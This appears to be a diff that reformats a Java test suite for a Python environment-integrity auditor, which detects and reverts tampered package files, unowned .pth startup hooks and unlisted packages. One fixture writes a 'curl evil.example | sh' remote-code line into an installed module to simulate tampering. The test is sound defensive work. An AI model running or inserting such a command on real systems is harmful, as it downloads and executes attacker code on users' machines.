@@ -29,18 +29,31 @@ class EnvironmentAuditTest {
 
   @BeforeEach
   void installTidylib() throws Exception {
-    TestIndex index = new TestIndex(dir.resolve("mirror"))
-        .publish(new TestWheel("tidylib", "1.2.0").consoleScript("tidy"));
+    TestIndex index =
+        new TestIndex(dir.resolve("mirror"))
+            .publish(new TestWheel("tidylib", "1.2.0").consoleScript("tidy"));
     environment = Environments.fresh(dir.resolve("venv"));
-    guard = Guard.builder()
-        .policy(PolicyLoader.parse("[store]\ntype = \"sqlite\"\npath = \""
-            + dir.resolve("state").toString().replace("\\", "\\\\") + "\"\n", "test.toml"))
-        .offline(true).index("pypi", index.uri())
-        .advisoryDatabase(TestIndex.advisories(dir.resolve("advisories.zip")).toUri())
-        .retainDownloads(dir.resolve("kept")).identity("alice").build();
+    guard =
+        Guard.builder()
+            .policy(
+                PolicyLoader.parse(
+                    "[store]\ntype = \"sqlite\"\npath = \""
+                        + dir.resolve("state").toString().replace("\\", "\\\\")
+                        + "\"\n",
+                    "test.toml"))
+            .offline(true)
+            .index("pypi", index.uri())
+            .advisoryDatabase(TestIndex.advisories(dir.resolve("advisories.zip")).toUri())
+            .retainDownloads(dir.resolve("kept"))
+            .identity("alice")
+            .build();
     try (Installer installer = new Installer(guard)) {
-      installer.install(installer.plan(environment, List.of(PackageRequest.of(
-          PackageId.pypi("tidylib"))), InstallProgress.silent()), Consent.nobody(),
+      installer.install(
+          installer.plan(
+              environment,
+              List.of(PackageRequest.of(PackageId.pypi("tidylib"))),
+              InstallProgress.silent()),
+          Consent.nobody(),
           InstallProgress.silent());
     }
   }
@@ -51,8 +64,10 @@ class EnvironmentAuditTest {
   }
 
   private EnvironmentAudit.PackageReport report(EnvironmentAudit.Report report, String name) {
-    return report.packages().stream().filter(p -> p.distribution().name().equals(name))
-        .findFirst().orElseThrow();
+    return report.packages().stream()
+        .filter(p -> p.distribution().name().equals(name))
+        .findFirst()
+        .orElseThrow();
   }
 
   @Test
@@ -62,14 +77,16 @@ class EnvironmentAuditTest {
     assertThat(report.unlisted()).isEmpty();
     assertThat(report.packages()).allSatisfy(p -> assertThat(p.intact()).isTrue());
     assertThat(report(report, "tidylib").verdict().decision()).isEqualTo(Decision.ALLOW);
-    assertThat(report.startupHooks()).extracting(EnvironmentAudit.StartupHook::path)
-        .contains("lib/python" + environment.markers().marker("python_version").orElseThrow()
-            + "/site-packages/distutils-precedence.pth");
+    assertThat(report.startupHooks())
+        .extracting(EnvironmentAudit.StartupHook::path)
+        .contains(
+            "lib/python"
+                + environment.markers().marker("python_version").orElseThrow()
+                + "/site-packages/distutils-precedence.pth");
   }
 
   @Test
-  void aFileEditedAfterInstallAndAnUnownedHookAreFoundAndRevertPutsThemRight()
-      throws Exception {
+  void aFileEditedAfterInstallAndAnUnownedHookAreFoundAndRevertPutsThemRight() throws Exception {
     Path module = environment.purelib().resolve("tidylib/__init__.py");
     Files.writeString(module, "import os; os.system('curl evil.example | sh')\n");
     Path hook = environment.purelib().resolve("zz-persist.pth");
@@ -78,13 +95,17 @@ class EnvironmentAuditTest {
 
     EnvironmentAudit.Report found = audit.audit(environment);
 
-    assertThat(report(found, "tidylib").modified()).singleElement().asString()
+    assertThat(report(found, "tidylib").modified())
+        .singleElement()
+        .asString()
         .endsWith("site-packages/tidylib/__init__.py");
     assertThat(found.unlisted()).singleElement().asString().endsWith("zz-persist.pth");
-    assertThat(found.startupHooks()).anySatisfy(h -> {
-      assertThat(h.path()).endsWith("zz-persist.pth");
-      assertThat(h.owner()).isEmpty();
-    });
+    assertThat(found.startupHooks())
+        .anySatisfy(
+            h -> {
+              assertThat(h.path()).endsWith("zz-persist.pth");
+              assertThat(h.owner()).isEmpty();
+            });
     assertThat(found.intact()).isFalse();
 
     List<String> left = audit.revert(environment);
@@ -94,7 +115,8 @@ class EnvironmentAuditTest {
     assertThat(hook).doesNotExist();
     assertThat(audit.audit(environment).intact()).isTrue();
     assertThat(guard.auditLog().records(r -> r.kind() == AuditRecord.Kind.INSTALLATION))
-        .last().satisfies(r -> assertThat(r.details()).containsEntry("outcome", "reverted"));
+        .last()
+        .satisfies(r -> assertThat(r.details()).containsEntry("outcome", "reverted"));
   }
 
   @Test
@@ -103,15 +125,19 @@ class EnvironmentAuditTest {
 
     audit.remove(environment, "TidyLib", "reported malicious");
 
-    assertThat(audit.audit(environment).packages()).extracting(p -> p.distribution().name())
+    assertThat(audit.audit(environment).packages())
+        .extracting(p -> p.distribution().name())
         .doesNotContain("tidylib");
     assertThat(environment.scripts().resolve("tidy")).doesNotExist();
     assertThat(audit.revert(environment)).isEmpty();
-    assertThat(audit.audit(environment).packages()).extracting(p -> p.distribution().name())
+    assertThat(audit.audit(environment).packages())
+        .extracting(p -> p.distribution().name())
         .doesNotContain("tidylib");
     assertThat(guard.auditLog().records(r -> r.kind() == AuditRecord.Kind.INSTALLATION))
-        .anySatisfy(r -> assertThat(r.summary()).isEqualTo("removed tidylib 1.2.0: reported"
-            + " malicious"));
+        .anySatisfy(
+            r ->
+                assertThat(r.summary())
+                    .isEqualTo("removed tidylib 1.2.0: reported" + " malicious"));
     assertThatThrownBy(() -> audit.remove(environment, "tidylib", "again"))
         .hasMessageContaining("tidylib is not installed");
   }
@@ -122,19 +148,25 @@ class EnvironmentAuditTest {
     Path site = environment.purelib();
     Files.createDirectories(site.resolve("sneaky-0.1.dist-info"));
     Files.writeString(site.resolve("sneaky.py"), "X = 1\n");
-    Files.writeString(site.resolve("sneaky-0.1.dist-info/METADATA"),
+    Files.writeString(
+        site.resolve("sneaky-0.1.dist-info/METADATA"),
         "Metadata-Version: 2.1\nName: sneaky\nVersion: 0.1\n");
-    Files.writeString(site.resolve("sneaky-0.1.dist-info/RECORD"),
-        "sneaky.py,sha256=" + RecordFile.digest(site.resolve("sneaky.py")) + ",6\n"
+    Files.writeString(
+        site.resolve("sneaky-0.1.dist-info/RECORD"),
+        "sneaky.py,sha256="
+            + RecordFile.digest(site.resolve("sneaky.py"))
+            + ",6\n"
             + "sneaky-0.1.dist-info/METADATA,,\nsneaky-0.1.dist-info/RECORD,,\n");
     EnvironmentAudit audit = new EnvironmentAudit(guard);
-    assertThat(audit.audit(environment).packages()).extracting(p -> p.distribution().name())
+    assertThat(audit.audit(environment).packages())
+        .extracting(p -> p.distribution().name())
         .contains("sneaky");
 
     audit.revert(environment);
 
     assertThat(site.resolve("sneaky.py")).doesNotExist();
-    assertThat(audit.audit(environment).packages()).extracting(p -> p.distribution().name())
+    assertThat(audit.audit(environment).packages())
+        .extracting(p -> p.distribution().name())
         .doesNotContain("sneaky");
   }
 }
